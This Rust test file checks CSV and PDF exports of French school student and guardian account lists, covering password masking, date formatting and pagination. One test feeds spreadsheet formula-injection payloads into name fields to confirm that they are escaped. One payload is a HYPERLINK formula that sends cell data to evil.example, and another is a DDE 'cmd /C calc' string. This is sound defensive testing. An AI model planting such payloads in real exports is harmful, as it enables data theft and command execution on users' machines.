//! Account lists as a spreadsheet and a printer get them (seed 001 §3.3, §5.3).

mod common;

use chrono::Duration;
use common::{at, est, pages, row};
use sesame_core::{AccountKind, AccountState, Origin};
use sesame_documents::{list_csv, list_pdf, list_pdf_at, ListRow};

const BOM: &str = "\u{feff}";

fn student_rows() -> Vec<ListRow> {
    let mef = ("2NDPRO", "2NDPRO MET.GEST.ADM., TRA & LOG. COMM.");
    let mut activated = row(
        "DUPONT",
        "Céline",
        "2 nde AGORA",
        mef,
        AccountState::Activated,
        Origin::Establishment,
        "celine.dupont114",
        Some("OLDPASS1"),
    );
    // 23:30 UTC on 4 November is 5 November in Paris.
    activated.notified_at = Some(at("2020-11-04T23:30:00Z"));
    activated.last_login_at = Some(at("2021-07-02T10:00:00Z"));
    let mut notified = row(
        "LEFÈVRE",
        "Jérôme",
        "2 nde AGORA",
        mef,
        AccountState::NotifiedNotActivated,
        Origin::Establishment,
        "jerome.lefevre3",
        Some("PT4HUMM2"),
    );
    notified.notified_at = Some(at("2021-05-21T08:00:00Z"));
    let not_notified = row(
        "MARTIN",
        "Zoé",
        "1BTS2",
        ("BTS1", "1ère année BTS"),
        AccountState::NotNotified,
        Origin::Unknown,
        "zoe.martin",
        None,
    );
    vec![activated, notified, not_notified]
}

fn csv_text(bytes: &[u8]) -> String {
    String::from_utf8(bytes.to_vec()).expect("UTF-8")
}

#[test]
fn student_csv_is_byte_exact() {
    let csv = list_csv(&est(), AccountKind::Student, &student_rows());
    let text = csv_text(&csv);
    assert!(
        csv.starts_with(&[0xEF, 0xBB, 0xBF]),
        "UTF-8 byte-order mark"
    );
    let expected = [
        "\u{feff}UAI;Établissement;Nom élève;Prénom élève;MEF;Classe;État du compte;Identifiant;Mot de passe;Date de notification;Date de dernière connexion",
        "0450750W;LP LYC METIER Auguste Rodin;DUPONT;Céline;2NDPRO;2 nde AGORA;Compte activé;celine.dupont114;*****;05/11/2020;02/07/2021",
        "0450750W;LP LYC METIER Auguste Rodin;LEFÈVRE;Jérôme;2NDPRO;2 nde AGORA;Compte notifié et non activé;jerome.lefevre3;PT4HUMM2;21/05/2021;",
        "0450750W;LP LYC METIER Auguste Rodin;MARTIN;Zoé;BTS1;1BTS2;Compte non notifié;zoe.martin;Non renseigné;;",
        "",
    ]
    .join("\r\n");
    assert_eq!(text, expected);
}

fn guardian_rows() -> Vec<ListRow> {
    let mef = ("3EME", "3EME GENERALE");
    let mut rows = Vec::new();
    for (i, (state, origin, password)) in [
        (AccountState::Activated, Origin::Guardian, Some("STALE111")),
        (
            AccountState::ActivationInProgress,
            Origin::Guardian,
            Some("STALE222"),
        ),
        (
            AccountState::NotifiedNotActivated,
            Origin::Establishment,
            Some("GMCB9EBM"),
        ),
        (AccountState::NotNotified, Origin::Unknown, None),
        (AccountState::Activated, Origin::FranceConnect, None),
    ]
    .into_iter()
    .enumerate()
    {
        let mut r = row(
            "AUBERT",
            "Kévin",
            "3EME4",
            mef,
            state,
            origin,
            &format!("resp.aubert{i}"),
            password,
        );
        r.guardian_family_name = Some("BERNARD".into());
        r.guardian_first_name = Some(format!("Sophie{i}"));
        r.last_login_at = (i == 0).then(|| at("2021-01-04T09:00:00Z"));
        rows.push(r);
    }
    rows
}

#[test]
fn guardian_csv_has_fourteen_columns_with_origin_and_state_labels() {
    let text = csv_text(&list_csv(&est(), AccountKind::Guardian, &guardian_rows()));
    let lines: Vec<&str> = text.split("\r\n").collect();
    assert_eq!(
        lines[0],
        format!("{BOM}UAI;Établissement;Nom élève;Prénom élève;MEF;Classe;Nom responsable;Prénom responsable;État du compte;Origine du compte;Identifiant;Mot de passe;Date de notification;Date de dernière connexion")
    );
    assert_eq!(
        &lines[1..6],
        [
            "0450750W;LP LYC METIER Auguste Rodin;AUBERT;Kévin;3EME;3EME4;BERNARD;Sophie0;Compte activé;Responsable;resp.aubert0;*****;;04/01/2021",
            "0450750W;LP LYC METIER Auguste Rodin;AUBERT;Kévin;3EME;3EME4;BERNARD;Sophie1;Compte en cours d'activation;Responsable;resp.aubert1;*****;;",
            "0450750W;LP LYC METIER Auguste Rodin;AUBERT;Kévin;3EME;3EME4;BERNARD;Sophie2;Compte notifié et non activé;Établissement;resp.aubert2;GMCB9EBM;;",
            "0450750W;LP LYC METIER Auguste Rodin;AUBERT;Kévin;3EME;3EME4;BERNARD;Sophie3;Compte non notifié;Non renseignée;resp.aubert3;Non renseigné;;",
            "0450750W;LP LYC METIER Auguste Rodin;AUBERT;Kévin;3EME;3EME4;BERNARD;Sophie4;Compte activé;FranceConnect;resp.aubert4;*****;;",
        ]
    );
    assert_eq!(lines[6], "", "CRLF after the last row too");
    for line in &lines[..6] {
        assert_eq!(line.split(';').count(), 14, "{line}");
    }
}

#[test]
fn csv_cells_cannot_become_formulas() {
    let mut rows = student_rows();
    rows[0].student_family_name = "=HYPERLINK(\"http://evil.example/?\"&A1;\"clic\")".into();
    rows[0].student_first_name = "+cmd|' /C calc'!A0".into();
    rows[1].student_family_name = "-2+3".into();
    rows[1].student_first_name = "@SUM(A1:A9)".into();
    rows[2].class = "\t=1+1".into();
    let text = csv_text(&list_csv(&est(), AccountKind::Student, &rows));
    let lines: Vec<&str> = text.split("\r\n").collect();
    // Quoted because of the `;` and `"` inside, and prefixed with an apostrophe.
    assert!(
        lines[1].contains(
            ";\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"clic\"\")\";'+cmd|' /C calc'!A0;"
        ),
        "{}",
        lines[1]
    );
    assert!(lines[2].contains(";'-2+3;'@SUM(A1:A9);"), "{}", lines[2]);
    assert!(lines[3].contains(";'\t=1+1;"), "{}", lines[3]);
    for line in &lines[1..4] {
        for cell in line.split(';') {
            let first = cell.trim_start_matches('"').chars().next();
            assert!(
                !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')),
                "cell {cell:?} of {line:?}"
            );
        }
    }
}

#[test]
fn csv_dates_are_french_in_paris_time() {
    let mut rows = student_rows();
    rows[2].notified_at = Some(at("2020-12-31T23:30:00Z"));
    rows[2].last_login_at = Some(at("2021-03-28T00:30:00Z") + Duration::hours(1));
    let text = csv_text(&list_csv(&est(), AccountKind::Student, &rows));
    let last = text.split("\r\n").nth(3).unwrap();
    assert!(last.ends_with(";01/01/2021;28/03/2021"), "{last}");
}

#[test]
fn pdf_groups_by_class_with_the_mef_label_before_its_rows() {
    let pdf = list_pdf(&est(), AccountKind::Student, &student_rows()).unwrap();
    let pages = pages(&pdf);
    // One class a page, classes in order ("1BTS2" before "2 nde AGORA").
    assert_eq!(pages.len(), 2, "{pages:#?}");
    let first = &pages[0];
    let header = first.find("1BTS2").expect("class header");
    let mef = first.find("1ère année BTS").expect("MEF label");
    let columns = first.find("Nom élève").expect("column header");
    let zoe = first.find("MARTIN").expect("row");
    assert!(header < mef && mef < columns && columns < zoe, "{first}");
    assert!(first.contains("Compte non notifié"));
    assert!(first.contains("Non renseigné"));
    assert!(first.contains("Liste des comptes élèves — LP LYC METIER Auguste Rodin"));
    assert!(first.contains("UAI 0450750W · Document généré le"));

    let second = &pages[1];
    let header = second.find("2 nde AGORA").expect("class header");
    let mef = second
        .find("2NDPRO MET.GEST.ADM., TRA & LOG. COMM.")
        .expect("MEF label");
    let dupont = second.find("DUPONT").expect("row");
    let lefevre = second.find("LEFÈVRE").expect("row");
    assert!(header < mef && mef < dupont && dupont < lefevre, "{second}");
    let dupont_line = second.lines().find(|l| l.contains("DUPONT")).unwrap();
    assert!(
        dupont_line.contains("Compte activé") && dupont_line.contains("*****"),
        "{dupont_line}"
    );
    assert!(
        !second.contains("OLDPASS1"),
        "an activated account's stored password never shows"
    );
    let lefevre_line = second.lines().find(|l| l.contains("LEFÈVRE")).unwrap();
    assert!(lefevre_line.contains("PT4HUMM2"), "{lefevre_line}");
}

#[test]
fn guardian_pdf_has_guardian_columns_and_masks_chosen_passwords() {
    let pdf = list_pdf(&est(), AccountKind::Guardian, &guardian_rows()).unwrap();
    let pages = pages(&pdf);
    assert_eq!(pages.len(), 1);
    let text = &pages[0];
    for column in [
        "Nom responsable",
        "Prénom responsable",
        "État du compte",
        "Identifiant",
    ] {
        assert!(text.contains(column), "{column}: {text}");
    }
    assert!(text.contains("Liste des comptes responsables"));
    assert!(text.contains("3EME GENERALE"));
    assert!(!text.contains("STALE111") && !text.contains("STALE222"));
    assert!(text.contains("GMCB9EBM"));
    assert_eq!(text.matches("*****").count(), 3, "{text}");
}

#[test]
fn long_classes_continue_on_following_pages_with_their_header() {
    let rows: Vec<ListRow> = (0..150)
        .map(|i| {
            row(
                &format!("NOM{i:03}"),
                "Prénom",
                "6EME1",
                ("6EME", "6EME GENERALE"),
                AccountState::NotifiedNotActivated,
                Origin::Establishment,
                &format!("prenom.nom{i}"),
                Some("PT4HUMM2"),
            )
        })
        .collect();
    let pdf = list_pdf_at(
        &est(),
        AccountKind::Student,
        &rows,
        at("2026-11-22T14:30:00Z"),
    )
    .unwrap();
    let pages = pages(&pdf);
    assert!(pages.len() >= 3, "{} pages", pages.len());
    for (i, page) in pages.iter().enumerate() {
        assert!(
            page.contains("Nom élève"),
            "page {i} repeats the column header"
        );
        assert!(page.contains(&format!("Page {}", i + 1)), "page {i}");
        assert!(
            page.contains("Document généré le 22/11/2026 à 15:30"),
            "page {i}"
        );
        if i > 0 {
            assert!(page.contains("6EME1 (suite)"), "page {i}");
        }
    }
    let all = pages.concat();
    for i in 0..150 {
        assert_eq!(
            all.matches(&format!("NOM{i:03} ")).count(),
            1,
            "row {i} printed once"
        );
    }
}

#[test]
fn an_empty_selection_still_makes_a_readable_pdf() {
    let pdf = list_pdf(&est(), AccountKind::Student, &[]).unwrap();
    assert!(pages(&pdf)[0].contains("Aucun compte sélectionné."));
    let csv = csv_text(&list_csv(&est(), AccountKind::Student, &[]));
    assert_eq!(csv.matches("\r\n").count(), 1, "the header line alone");
}
